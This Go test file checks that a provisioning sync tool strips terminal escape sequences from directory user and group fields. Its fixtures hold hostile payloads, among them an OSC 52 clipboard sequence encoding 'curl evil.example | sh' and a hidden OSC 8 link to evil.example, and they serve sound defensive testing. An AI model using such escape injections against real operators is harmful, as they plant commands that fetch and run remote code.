package provision_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"procsync/sync/provision"
	"procsync/sync/roster"
	"procsync/sync/sim"
)

// Terminal escape sequences a hostile directory entry may carry: OSC 52
// sets the operator's clipboard, OSC 8 hides a link behind text, and the
// 8-bit CSI and OSC introducers do the same on terminals that honour them.
const (
	escOSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	escOSC8  = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
	escC1    = "\u009b31m\u009d0;title\u009c"
)

// hasControl reports where s holds an escape or other control character.
func hasControl(s string) int {
	return strings.IndexFunc(s, func(r rune) bool {
		return r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f)
	})
}

// TestSnapshotSanitisesDirectoryText puts escape sequences in every text
// field of a license group, an Entra user and Procore users, and checks that
// none survives into the snapshot or the plan built from it.
func TestSnapshotSanitisesDirectoryText(t *testing.T) {
	ten := sim.NewTenant(7)
	group := "License – Microsoft 365 E5" + escOSC8
	ten.AddGroup(group, sim.SkuM365E3)
	ten.AddUser(&sim.User{
		DisplayName:       "Eve" + escOSC52 + " Mallory",
		GivenName:         "Eve" + escOSC52,
		Surname:           "Mallory" + escOSC8,
		UserPrincipalName: "eve@" + sim.Domain,
		Mail:              "eve@" + sim.Domain,
		ProxyAddresses:    []string{"SMTP:eve@" + sim.Domain, "smtp:e" + escC1 + "@" + sim.Domain},
		AccountEnabled:    true,
		JobTitle:          "Engineer" + escOSC8,
	}, group)
	// One Procore user matched by address (an update of the names), one
	// that only Procore knows (an offboard candidate).
	ten.AddProcoreUser(&sim.ProcoreUser{FirstName: "Eve" + escC1, LastName: "M" + escOSC52, Email: "eve@" + sim.Domain,
		IsActive: true, JobTitle: "Boss" + escOSC8, EmployeeID: "7" + escC1})
	ten.AddProcoreUser(&sim.ProcoreUser{FirstName: "Old" + escOSC8, LastName: "Timer" + escOSC52, Email: "old@" + sim.Domain,
		IsActive: true, JobTitle: "Gone" + escOSC52})
	ten.RecountSKUs()
	srv := startSnapSim(t, sim.Options{Tenant: ten})

	// The explorer lists the groups through ResolveGroups, on the
	// operator's terminal too.
	src := simSources(t, srv.URL)
	groups, err := provision.ResolveGroups(context.Background(), src.Graph, provision.SnapshotOptions{NamePrefixes: []string{"License – Microsoft"}})
	if err != nil {
		t.Fatal(err)
	}
	if s := fmt.Sprintf("%+v", groups); hasControl(s) >= 0 || len(groups) != 1 {
		t.Errorf("ResolveGroups keeps a control character or lost the group: %q", s)
	}

	var progress []roster.SnapshotProgress
	snap, err := provision.TakeSnapshot(context.Background(), src, provision.SnapshotOptions{
		NamePrefixes: []string{"License – Microsoft"},
		Progress:     func(p roster.SnapshotProgress) { progress = append(progress, p) },
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(snap.Members) != 1 || len(snap.Users) != 2 {
		t.Fatalf("snapshot has %d members and %d Procore users, want 1 and 2", len(snap.Members), len(snap.Users))
	}
	plan := roster.Diff(snap, roster.Rules{UpdateNames: true, Offboard: "report", Reactivate: true, EmailAttribute: "mail"})
	for what, v := range map[string]any{"snapshot members": snap.Members, "snapshot users": snap.Users,
		"snapshot groups": snap.Groups, "plan": plan.Actions, "progress": progress} {
		s := fmt.Sprintf("%+v", v)
		if i := hasControl(s); i >= 0 {
			t.Errorf("%s carry a control character at %d: %q", what, i, s[max(0, i-20):min(len(s), i+40)])
		}
	}
	// OSC 8's link text ("click") is text, not part of the sequence.
	if m := snap.Members[0]; m.GivenName != "Eve" || m.Surname != "Malloryclick" || m.Groups[0] != "License – Microsoft 365 E5click" {
		t.Errorf("the text around the escapes was not kept: %+v", m)
	}
}
